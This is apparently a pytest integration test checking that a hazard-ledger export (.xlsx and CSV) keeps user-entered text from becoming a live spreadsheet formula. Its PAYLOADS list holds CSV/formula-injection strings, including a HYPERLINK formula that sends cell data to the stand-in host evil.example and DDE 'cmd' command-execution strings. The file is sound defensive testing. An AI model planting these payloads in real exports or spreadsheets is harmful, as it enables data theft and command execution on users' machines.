"""A resident's or a phone's text never becomes a live formula in an export (issue 14,
finding 5): the ledger's .xlsx keeps it as a string cell, CSV quotes it with '."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from server import sheets
from tests.integration.hazards.people import GRID_MEMBER, STATION, hazard_in, viewer
from tests.integration.helpers import log_in

pytestmark = pytest.mark.db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


async def test_no_formula_in_the_ledger(app: Litestar, demo) -> None:
    people = {"grid": await viewer(GRID_MEMBER), "station": await viewer(STATION)}
    for text in PAYLOADS:
        await hazard_in("accepted", people, description=text, address=text)
    async with AsyncTestClient(app=app) as station:
        assert (await log_in(station, STATION)).status_code == 303
        answer = await station.get("/hazards/ledger.xlsx")
        assert answer.status_code == 200, answer.text[-2000:]
        content = answer.content
        csv_text = (await station.get("/hazards/ledger.csv")).content.decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        assert b"<f>" not in xlsx.read("xl/worksheets/sheet1.xml")  # no formula at all
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    texts = [header.index("地址"), header.index("描述")]
    cells = [row[i] for row in sheet.iter_rows(min_row=2) for i in texts]
    assert sorted(c.value for c in cells) == sorted(PAYLOADS * 2)  # kept as written
    assert {c.data_type for c in cells} == {"s"}
    # where each one is: its town, village and grid by name, and its coordinates
    for row in sheet.iter_rows(min_row=2, values_only=True):
        named = dict(zip(header, row, strict=True))
        assert named["乡镇（街道）"] and named["村（社区）"] and named["网格"], named
        assert isinstance(named["纬度"], float) and isinstance(named["经度"], float), named
    lines = list(csv.reader(io.StringIO(csv_text)))
    description = lines[0].index("描述")
    assert sorted(line[description] for line in lines[1:]) == sorted("'" + p for p in PAYLOADS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1", "'=1"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("普通文字", "普通文字"),
        (-5, -5),
        ("", ""),
        (None, None),
    ],
)
def test_csv_cell(value, written) -> None:
    assert sheets.csv_cell(value) == written
